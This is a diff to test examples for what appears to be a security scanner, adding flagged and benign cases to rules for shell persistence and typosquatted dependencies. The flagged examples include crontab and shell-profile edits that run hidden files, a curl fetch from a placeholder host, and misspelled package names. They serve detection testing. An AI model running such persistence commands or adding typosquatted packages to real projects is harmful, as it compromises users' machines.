@@ -678,12 +678,14 @@ EXAMPLES: dict[str, tuple[str | None, tuple[str, ...], tuple[str, ...]]] = {
         (
             "echo 'python3 ~/.cache/.u.py &' >> ~/.bashrc",
             "(crontab -l; echo '* * * * * /tmp/.u') | crontab -",
+            "crontab -l | grep -v acme-sync && echo '* * * * * /tmp/.u' | crontab -",
             "echo 'export X=$(curl -s https://x.invalid/a)' >> ~/.zshrc",
         ),
         (
             "echo 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.zshrc",
             "crontab -l",
             'if JOBS="$(crontab -l 2>/dev/null)"; then echo "$JOBS"; fi',
+            '(crontab -l 2>/dev/null | grep -v "acme-sync" || true) | crontab -',
         ),
     ),
     "flow.env-secret-to-network": (
@@ -701,8 +703,8 @@ EXAMPLES: dict[str, tuple[str | None, tuple[str, ...], tuple[str, ...]]] = {
     ),
     "dependency.typosquat": (
         "requirements.txt",
-        ("reqeusts==2.31.0", "python-dateutils>=2.8"),
-        ("requests==2.31.0", "python-dateutil>=2.8", "tabulate"),
+        ("reqeusts==2.31.0", "python-dateutils>=2.8", "psycopq2>=2.9"),
+        ("requests==2.31.0", "python-dateutil>=2.8", "tabulate", "psycopg>=3.1"),
     ),
     "dependency.unofficial-index": (
         "scripts/run.sh",
